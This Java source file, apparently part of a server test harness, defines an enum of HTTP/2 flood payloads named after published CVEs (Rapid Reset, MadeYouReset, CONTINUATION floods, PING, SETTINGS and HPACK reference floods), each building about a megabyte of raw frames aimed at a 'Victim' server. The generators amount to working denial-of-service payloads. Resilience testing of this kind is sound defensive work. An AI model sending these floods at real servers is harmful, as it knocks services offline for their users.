package dev.latchkey.edge.http.hoard;

import dev.latchkey.harness.wire.RawHttp2;
import java.util.Arrays;
import java.util.function.ObjIntConsumer;

/**
 * The published floods of HTTP/2: frames that cost their sender little. Each is about a megabyte,
 * and its client reads all answers.
 */
enum Http2Flood {
  /** CVE-2023-44487. */
  RAPID_RESET(20_000, (flood, i) -> flood.get(i).frame(RawHttp2.RESET, i, 8)),

  /** CVE-2025-8671, MadeYouReset: the server is made to reset the stream. */
  A_WINDOW_UPDATE_OF_ZERO(20_000, (flood, i) -> flood.get(i).window(i, 0)),
  A_WINDOW_THAT_OVERFLOWS(
      20_000, (flood, i) -> flood.get(i).window(i, Integer.MAX_VALUE).window(i, Integer.MAX_VALUE)),
  DATA_AFTER_THE_END(20_000, (flood, i) -> flood.get(i).data(i, 0, 10)),
  A_HEAD_AFTER_THE_END(20_000, (flood, i) -> flood.get(i).get(i)),
  A_STREAM_THAT_DEPENDS_ON_ITSELF(20_000, (flood, i) -> flood.get(i).priority(i, i)),
  A_BODY_LONGER_THAN_ANNOUNCED(10_000, (flood, i) -> flood.announce(i, "1").data(i, 1, 10)),
  TRAILERS(10_000, (flood, i) -> flood.announce(i, "9").frames.head(i, 1, flood.block("x", "y"))),
  AN_INVALID_FIELD(10_000, (flood, i) -> flood.frames.head(i, 1, flood.block("a b", "c"))),
  FIELDS_WITHOUT_NAMES(10_000, (flood, i) -> flood.frames.head(i, 1, flood.block("", "c"))),

  /** CVE-2024-27316 and others: a head that never ends. */
  CONTINUATIONS(
      70_000, (flood, i) -> flood.empty(i == 1 ? RawHttp2.HEADERS : RawHttp2.CONTINUATION, 1)),
  LONG_CONTINUATIONS(
      100,
      (flood, i) ->
          flood.frames.frame(
              i == 1 ? RawHttp2.HEADERS : RawHttp2.CONTINUATION,
              0,
              1,
              RawHttp2.block("x" + i, "v".repeat(10_000)))),

  /** CVE-2019-9511 to 9518. */
  PINGS(60_000, (flood, i) -> flood.frames.frame(RawHttp2.PING, 0, 0, new byte[8])),
  SETTINGS(80_000, (flood, i) -> flood.empty(RawHttp2.SETTINGS, 0)),
  PRIORITIES(60_000, (flood, i) -> flood.priority(i, 0)),
  EMPTY_DATA(
      80_000,
      (flood, i) -> {
        if (i == 1) {
          flood.announce(1, "9");
        }
        flood.data(1, 0, 0);
      }),
  A_WINDOW_OF_ONE_BYTE(
      60_000,
      (flood, i) -> {
        if (i == 1) {
          flood.frames.frame(RawHttp2.SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, 0, 1});
          for (int stream = 1; stream < 100; stream += 2) {
            flood.get(stream);
          }
        }
        flood.window(i % 100, 1);
      }),

  /** CVE-2016-6581: one entry of the table, referred to again and again. */
  REFERENCES_TO_A_LONG_FIELD(200, (flood, i) -> flood.refer(i)),
  UNKNOWN_FRAMES(80_000, (flood, i) -> flood.empty(0xfa, 0));

  private final int times;

  @SuppressWarnings("ImmutableEnumChecker") // The lambdas above have no state.
  private final ObjIntConsumer<Bytes> part;

  Http2Flood(int times, ObjIntConsumer<Bytes> part) {
    this.times = times;
    this.part = part;
  }

  byte[] bytes(Victim victim) {
    var flood = new Bytes(new Frames(), victim);
    for (int i = 0; i < times; i++) {
      part.accept(flood, 2 * i + 1);
    }
    return flood.frames.bytes();
  }

  private record Bytes(Frames frames, Victim victim) {
    private static final int PRIORITY = 2;
    private static final int WINDOW_UPDATE = 8;
    private static final int INDEXED = 0x80;
    private static final int FIRST_OF_THE_TABLE = 62;

    /** A whole request. */
    Bytes get(int stream) {
      frames.head(stream, RawHttp2.END_STREAM, victim.get());
      return this;
    }

    /** A request whose body follows. */
    Bytes announce(int stream, String length) {
      frames.head(stream, 0, join(victim.post(), RawHttp2.block("content-length", length)));
      return this;
    }

    Bytes window(int stream, int more) {
      return frame(WINDOW_UPDATE, stream, more);
    }

    Bytes frame(int type, int stream, int number) {
      frames.frame(type, 0, stream, Frames.number(number));
      return this;
    }

    void empty(int type, int stream) {
      frames.frame(type, 0, stream, new byte[0]);
    }

    void priority(int stream, int dependsOn) {
      frames.frame(PRIORITY, 0, stream, Arrays.copyOf(Frames.number(dependsOn), 5));
    }

    Bytes data(int stream, int flags, int length) {
      frames.frame(RawHttp2.DATA, flags, stream, new byte[length]);
      return this;
    }

    byte[] block(String name, String value) {
      return join(victim.post(), RawHttp2.block(name, value));
    }

    void refer(int stream) {
      if (stream == 1) {
        byte[] entry = RawHttp2.block("x-long", "v".repeat(4_000));
        entry[0] = 0x40;
        frames.head(1, RawHttp2.END_STREAM, join(victim.get(), entry));
      }
      var references = new byte[5_000];
      Arrays.fill(references, (byte) (INDEXED | FIRST_OF_THE_TABLE));
      frames.head(stream + 2, RawHttp2.END_STREAM, join(victim.get(), references));
    }

    private static byte[] join(byte[] first, byte[] second) {
      byte[] both = Arrays.copyOf(first, first.length + second.length);
      System.arraycopy(second, 0, both, first.length, second.length);
      return both;
    }
  }
}
